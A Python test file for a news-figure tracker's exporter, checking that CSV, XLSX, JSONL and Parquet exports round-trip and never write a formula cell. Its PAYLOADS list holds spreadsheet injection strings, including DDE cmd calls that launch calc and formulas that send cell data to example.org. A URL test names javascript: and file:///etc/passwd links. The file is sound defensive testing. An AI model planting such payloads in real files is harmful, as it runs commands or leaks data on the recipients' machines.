"""Exports as files: every format gives back what was written, none is ever half written, and no cell is a formula."""

import csv
import gzip
import io
import json
import math
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from functools import cache
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pyarrow.parquet
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from xlsxwriter import Workbook

import tracker
from tests.examples import examples
from tests.test_export import ARTICLE, casualty, money, percent
from tracker import export
from tracker.direction import language_of
from tracker.entries import Entry
from tracker.errors import InvalidRequest
from tracker.export import workbook
from tracker.records import Article, Figure
from tracker.sources.files import read_many

REVIEWED = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
SEEDS = Path(__file__).parent.parent / "seeds"
READABLE = ("csv", "xlsx", "jsonl", "parquet")


@cache
def seeds() -> tuple[Entry, ...]:
    articles = [item for item in read_many([SEEDS]) if isinstance(item, Article)]
    return tuple(
        Entry(article, figure) for article in articles for figure in tracker.extract(article.text, article.lang)
    )


ARABIC = ARTICLE.model_copy(update={"lang": "ar"})


def entry(figure: Figure | None = None, **known: Any) -> Entry:
    return Entry(ARABIC, figure or money(), **known)


def read(entries: list[Entry], name: str, raw: bool = True) -> list[dict[str, Any]]:
    """The rows as pandas reads them back, numbers as float, nothing as None."""
    data = io.BytesIO(export.to_bytes(entries, name, raw))
    texts = {column.name: str for column in export.TABLE if column.content in ("text", "quotation", "code")}
    if name == "csv":
        frame = pd.read_csv(data, dtype=texts, keep_default_na=False, na_values={}, encoding="utf-8-sig")
    elif name == "xlsx":
        frame = pd.read_excel(data, dtype=texts, keep_default_na=False, na_values=[])
    elif name == "jsonl":
        frame = pd.DataFrame([json.loads(line) for line in data.read().decode().splitlines()])
    else:
        frame = pd.read_parquet(data)
    return [{key: plain(value) for key, value in row.items()} for row in frame.to_dict("records")]


def plain(value: Any) -> Any:
    """What all formats can say: floats for numbers, ISO for days and moments, None for nothing."""
    if value is None or value is pd.NaT or value == "" or (isinstance(value, float) and math.isnan(value)):
        return None
    if isinstance(value, pd.Timestamp | datetime | date):
        moment = pd.Timestamp(value)
        return moment.date().isoformat() if moment == moment.normalize() else moment.tz_localize(None).isoformat()
    return value


def expected(entry: Entry) -> dict[str, Any]:
    values = export.to_values(entry)
    return {name: as_float(plain(values.get(name))) for name in export.COLUMNS}


def as_float(value: Any) -> Any:
    return float(f"{value:.15G}") if isinstance(value, Decimal | int | float) else value


def comparable(row: dict[str, Any]) -> dict[str, Any]:
    row = {name: row.get(name) for name in export.COLUMNS}
    for name in ("low", "high", "margin_of_error", "sample_size", "sentence_start", "start", "end", "figure_id"):
        row[name] = None if row[name] is None else as_float(float(row[name]))
    if row["reviewed"]:
        row["reviewed"] = str(row["reviewed"]).removesuffix("Z").removesuffix("+00:00")
    return row


@pytest.mark.parametrize("name", READABLE)
def test_the_demo_articles_come_back(name: str) -> None:
    entries = list(seeds())
    assert len(entries) > 200
    assert [comparable(row) for row in read(entries, name)] == [expected(each) for each in entries]


@pytest.mark.parametrize("name", READABLE)
def test_a_review_comes_back(name: str) -> None:
    known = {"figure_id": 12345, "review": "rejected", "reviewer": "سمر", "reviewed": REVIEWED, "note": "مكرر\n«5%»"}
    (row,) = read([entry(percent(margin_of_error=Decimal("3.5"), sample_size=1200), **known)], name)
    back = comparable(row)
    assert (back["figure_id"], back["review"], back["reviewer"], back["note"]) == (
        12345,
        "rejected",
        "سمر",
        "مكرر\n«5%»",
    )
    assert back["reviewed"].replace(" ", "T") == "2026-03-04T05:06:07"
    assert (back["low"], back["margin_of_error"], back["sample_size"]) == (-2.5, 3.5, 1200)


def test_moments_are_told_in_utc() -> None:
    cairo = timezone(timedelta(hours=2))
    for moment in (REVIEWED, REVIEWED.astimezone(cairo), REVIEWED.replace(tzinfo=None)):
        assert export.to_row(entry(reviewed=moment))["reviewed"] == "2026-03-04T05:06:07Z"


TEXTS = st.text(
    st.one_of(
        st.sampled_from("اأبتثدذرسشصطعفقكلمنهويىةءًّـ٠١٢٣٪٫\u200f\u200e\u202b\u202c\u2067\u2069\u061c\u200d\ufeff"),
        st.sampled_from(" \n\t\"',;=+-@|<>&_x000D_[]{}\\😀👩‍👩‍👧"),
        st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp"), exclude_characters="\ufffe\uffff"),
    ),
    min_size=1,
)


@settings(max_examples=examples(40), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(TEXTS, min_size=1, max_size=4))
def test_any_text_comes_back(texts: list[str]) -> None:
    entries = [
        Entry(Article(id="a", text="…", title=text, source=text), casualty(who=text, sentence=text), note=text)
        for text in texts
    ]
    for name in READABLE:
        for text, row in zip(texts, read(entries, name), strict=True):
            back = {row[key] for key in ("title", "source", "who", "sentence", "note")}
            if name == "xlsx":  # openpyxl leaves the escapes of the format as they stand
                back = {unescape(each) for each in back}
                text = text + " " if text.startswith("<r>") and text.endswith("</r>") else text  # noqa: PLW2901
            assert back == {text}, name


PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "  \t =1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u202f=1+1",
    "\u1680=1+1",
    "\ufeff=1+1",
    "\ufeff\ufeff =1+1",
    "\u200b=1+1",
    "\u200c=1+1",
    "\u200d=1+1",
    "\u2060=1+1",
    "\u00ad=1+1",
    "\u200e=1+1",
    "\u200f=1+1",
    "\u061c=1+1",
    "\u202a=1+1\u202c",
    "\u202b=1+1\u202c",
    "\u202d=1+1\u202c",
    "\u202e=1+1\u202c",
    "\u2066=1+1\u2069",
    "\u2067=1+1\u2069",
    "\u2068=1+1\u2069",
    "\u2028=1+1",
    "\u2029=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=HYPERLINK(\"http://example.org/?\"&A1;\"قتيل\")",
    "=IMPORTXML(CONCAT(\"http://example.org/?v=\";A1);\"//a\")",
    "=IMPORTDATA(\"http://example.org\")",
    "=IMAGE(\"https://example.org/?\"&A1)",
    "=WEBSERVICE(\"http://example.org/\"&A1)",
    "=\"a\nb\"&cmd|'/C calc'!A0",
    "=1+1\",=2+2",
    "\"\n=1+1",
    "{=1+1}\n=2",
    "a\n=1+1",
    "a\r\n\u200f+1+1",
    "قتل 5;=1+1;ثم",
    "x; @SUM(A1);",
    "x\u061c;\ufeff-1+1",
    "<r><t>x</t></r></is></c><c r=\"A9\"><f>1+1</f></c><r></r>",
    "_x003D_1+1",
    "%0A=1+1",
]  # fmt: skip


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) > 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_is_a_formula(payload: str) -> None:
    for delimiter, quotechar in ((",", '"'), (";", "\x07")):  # as meant; and where Excel expects semicolons
        text = export.to_bytes([hostile(payload)], "csv").decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quotechar=quotechar):
            for cell in row:
                bare = "".join(char for char in cell if char.isprintable() and not char.isspace())
                assert bare[:1] not in tuple("=+-@＝＋－＠") or bare == ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula(payload: str) -> None:
    data = io.BytesIO(export.to_bytes([hostile(payload)], "xlsx"))
    sheet = openpyxl.load_workbook(data, rich_text=True)["figures"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert sheet.dimensions == "A1:AJ2"
    if export.formula_safe(payload) != payload and payload[0] not in "\x00\x0b\x1b\x7f\x85":
        assert all(cell.quotePrefix for cell in cells if cell.row == 2 and cell.column_letter in "BX")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_machines_get_the_text_itself(payload: str) -> None:
    text = export.to_bytes([hostile(payload)], "csv", raw=True).decode("utf-8")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert {row["sentence"], row["title"], row["note"], row["article_id"]} == {payload}


def hostile(text: str) -> Entry:
    figure = casualty(text=text, sentence=text, context=text, rule=text, attribution=text, who=text)
    article = Article(id=text, text="…", title=text, source=text, url=f"https://example.org/{text}")
    return Entry(article, figure, 1, "rejected", text, REVIEWED, text)


def figures_sheet(*entries: Entry) -> Any:
    return openpyxl.load_workbook(io.BytesIO(export.to_bytes(entries, "xlsx")))["figures"]


def cell(sheet: Any, name: str, row: int = 2) -> Any:
    return sheet.cell(row, export.COLUMNS.index(name) + 1)


def test_a_workbook_can_be_read_as_it_opens() -> None:
    sheet = figures_sheet(entry(money(low="1234567.5", high="1234567.5"), reviewed=REVIEWED, figure_id=7))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:AJ2"
    assert (cell(sheet, "low").value, cell(sheet, "low").number_format) == (1234567.5, "#,##0.0")
    assert (cell(sheet, "start").value, cell(sheet, "start").number_format) == (20, "0")
    assert (cell(sheet, "published").value, cell(sheet, "published").is_date) == (datetime(2024, 3, 7), True)
    assert cell(sheet, "reviewed").value == REVIEWED.replace(tzinfo=None)


def test_percentages_are_not_scaled() -> None:
    low = cell(figures_sheet(entry(percent(low=64, high=64))), "low")
    assert (low.value, low.number_format) == (64, "#,##0")


def test_cells_are_read_in_the_order_of_their_language() -> None:
    english = Entry(Article(id="b", text="x", lang="en", title="Fund", source="الميناء"), money(sentence="It paid."))
    sheet = figures_sheet(entry(), english)
    orders = [[cell(sheet, name, row).alignment.readingOrder for name in ("title", "source", "kind")] for row in (2, 3)]
    assert orders == [[2, 2, 1], [1, 2, 1]]


@pytest.mark.parametrize(("arabic", "english", "rtl"), [(2, 1, True), (1, 1, False), (0, 2, False), (0, 0, False)])
def test_the_sheet_runs_as_most_of_its_articles(arabic: int, english: int, rtl: bool) -> None:
    other = Entry(Article(id="b", text="x", lang="en"), money(sentence="It paid."))
    sheet = figures_sheet(*[entry()] * arabic, *[other] * english)
    assert bool(sheet.sheet_view.rightToLeft) is rtl


def test_every_column_is_explained_in_both_languages() -> None:
    book = openpyxl.load_workbook(io.BytesIO(export.to_bytes([], "xlsx")))
    assert book.sheetnames == ["figures", "columns"]
    rows = list(book["columns"].values)[1:]
    assert [row[0] for row in rows] == list(export.COLUMNS)
    assert all(language_of(Article(id="x", text=str(row[2]))) == "ar" for row in rows)


@pytest.mark.parametrize(
    ("url", "target"),
    [
        ("https://example.org/a", "https://example.org/a"),
        ("http://example.org/خبر", "http://example.org/%D8%AE%D8%A8%D8%B1"),
        ("javascript:alert(1)", None),
        ("file:///etc/passwd", None),
        ("internal:figures!A1", None),
        ("mailto:a@example.org", None),
        ("https://example.org/a b", None),
        (f"https://example.org/{'x' * 2100}", None),
        (None, None),
    ],
)
def test_the_figure_links_to_its_sentence_on_the_web(url: str | None, target: str | None) -> None:
    sheet = figures_sheet(Entry(Article(id="a", text="…", url=url), money(sentence="دفعت 5, ثم 6 & 7-8.")))
    link = cell(sheet, "text").hyperlink
    assert (link.target if link else None) == target
    if link:
        assert link.location.startswith(":~:text=%D8%AF")
        assert link.location.endswith("6%20%26%207%2D8")


def test_limits_of_excel(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "ROWS_A_SHEET", 4)
    monkeypatch.setattr(workbook, "LINKS_A_SHEET", 2)
    linked = Entry(Article(id="a", text="…", url="https://example.org/a"), money())
    book = openpyxl.load_workbook(io.BytesIO(export.to_bytes([linked] * 8, "xlsx")))
    assert book.sheetnames == ["figures", "figures 2", "figures 3", "columns"]
    assert [book[name].max_row for name in book.sheetnames[:3]] == [4, 4, 3]
    assert [bool(cell(book["figures"], "text", row).hyperlink) for row in (2, 3, 4)] == [True, True, False]
    assert [cell(book["figures"], name, 4).value for name in ("text", "url")] == [
        linked.figure.text,
        linked.article.url,
    ]


@pytest.mark.parametrize(
    ("written", "held"),
    [
        ("أ" * 32_767, "أ" * 32_767),
        ("أ" * 40_000, "أ" * 32_766 + "…"),
        ("😀" * 20_000, "😀" * 16_383 + "…"),
        ("a" + "😀" * 20_000, "a" + "😀" * 16_382 + "…"),
        ("a\r\nb\rc\u2028d", "a\nb\nc\nd"),
        ("a\x00b\x1fc\x7fd\x85e\ufffef", "a\ufffdb\ufffdc\ufffdd\ne\ufffdf"),
        ("_x000D_ _x0041_", "_x000D_ _x0041_"),
        ("<r><t>x</t></r>", "<r><t>x</t></r> "),
        ("a\ud800b", "a\ufffdb"),
    ],
)
def test_what_a_cell_can_hold(written: str, held: str) -> None:
    assert unescape(cell(figures_sheet(entry(money(sentence=written))), "sentence").value) == held


@pytest.mark.parametrize(
    ("fields", "name", "held"),
    [
        ({"low": "1e400", "high": "1e400"}, "low", "1" + "0" * 400),
        ({"low": "0.1234567890123456789", "high": "1"}, "low", 0.1234567890123457),
    ],
)
def test_numbers_beyond_excel(fields: dict[str, Any], name: str, held: object) -> None:
    assert cell(figures_sheet(entry(money(**fields))), name).value == held


def test_a_day_before_excel_begins_is_told_in_words() -> None:
    old = Entry(Article(id="a", text="…", published=date(1899, 12, 31)), money())
    assert cell(figures_sheet(old), "published").value == "1899-12-31"


def test_parquet_says_what_it_holds() -> None:
    data = io.BytesIO(export.to_bytes(seeds(), "parquet"))
    schema = pyarrow.parquet.read_schema(data)
    kinds = {name: str(schema.field(name).type) for name in ("low", "published", "reviewed", "figure_id", "sentence")}
    assert kinds == {
        "low": "double", "published": "date32[day]", "reviewed": "timestamp[us, tz=UTC]", "figure_id": "int64",
        "sentence": "string",
    }  # fmt: skip
    assert all(schema.field(name).metadata[b"description"] for name in export.COLUMNS)


@pytest.mark.parametrize("name", export.FORMATS)
def test_a_file_holds_what_the_bytes_do(name: str, tmp_path: Path) -> None:
    path = tmp_path / f"أرقام.{name.upper()}"
    entries = seeds()[:20]
    assert export.write_file(iter(entries), path) == 20
    assert [each.name for each in tmp_path.iterdir()] == [path.name]
    if name != "xlsx":  # whose properties hold the time
        assert path.read_bytes() == export.to_bytes(entries, name)
    if name.endswith(".gz"):
        assert gzip.decompress(path.read_bytes()) == export.to_bytes(entries, name.removesuffix(".gz"))


def test_csv_for_spreadsheets_and_for_machines() -> None:
    safe, raw = (export.to_bytes([entry()], "csv", raw) for raw in (False, True))
    assert safe.startswith("\ufeffarticle_id,".encode())
    assert raw.startswith(b"article_id,")
    assert raw.count(b"\r\n") == safe.count(b"\r\n") == 2


def broken() -> Iterator[Entry]:
    yield from seeds()[:3]
    raise InvalidRequest("a.txt: went wrong; try again")


@pytest.mark.parametrize("name", export.FORMATS)
def test_nothing_half_written_is_left(name: str, tmp_path: Path) -> None:
    path = tmp_path / f"figures.{name}"
    path.write_bytes(b"old")
    with pytest.raises(InvalidRequest, match="went wrong"):
        export.write_file(broken(), path)
    assert [(each.name, each.read_bytes()) for each in tmp_path.iterdir()] == [(path.name, b"old")]


def test_a_link_keeps_leading_to_its_file(tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_bytes(b"old")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    export.write_file([], tmp_path / "link.csv")
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_bytes() == export.to_bytes([], "csv")


@pytest.mark.parametrize(
    ("name", "known", "words"),
    [
        ("figures.xls", None, r"figures\.xls: the ending names no format; use \.csv, \.xlsx, .* or \.jsonl\.gz$"),
        ("figures", None, "names no format"),
        ("figures.csv", "ods", r"^'ods': is no format; use csv, xlsx, jsonl, parquet, csv\.gz or jsonl\.gz$"),
        ("missing/figures.csv", None, "folder does not exist"),
        ("folder.csv", None, "is no file"),
    ],
)
def test_what_cannot_be_meant_is_refused_in_one_line(name: str, known: str | None, words: str, tmp_path: Path) -> None:
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(InvalidRequest, match=words) as refused:
        export.write_file([entry()], tmp_path / name, format=known)
    assert len(str(refused.value).splitlines()) == 1
    assert [each.name for each in tmp_path.iterdir()] == ["folder.csv"]


def test_the_format_may_be_named(tmp_path: Path) -> None:
    export.write_file([entry()], tmp_path / "download", format="jsonl")
    assert json.loads((tmp_path / "download").read_text(encoding="utf-8"))["article_id"] == "a"


def test_xlsxwriter_still_takes_markup_for_its_own(tmp_path: Path) -> None:
    """The reason for the space behind `</r>`; once this fails, the space can go."""
    with Workbook(tmp_path / "a.xlsx", {"constant_memory": True}) as book:
        book.add_worksheet().write_string(0, 0, "<r><t>1</t></r>")
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0]["A1"].value == "1"


class Pipe(io.RawIOBase):
    """A stream that only goes forward."""

    def __init__(self) -> None:
        self.taken = b""

    def writable(self) -> bool:
        return True

    def write(self, data: Any, /) -> int:
        self.taken += bytes(data)
        return len(bytes(data))


@pytest.mark.parametrize("name", export.FORMATS)
def test_a_pipe_is_written_and_left_open(name: str) -> None:
    pipe = Pipe()
    stream = io.BufferedWriter(pipe)
    assert export.write_stream(seeds()[:5], stream, name) == 5
    assert not stream.closed
    stream.close()
    assert name == "xlsx" or pipe.taken == export.to_bytes(seeds()[:5], name)
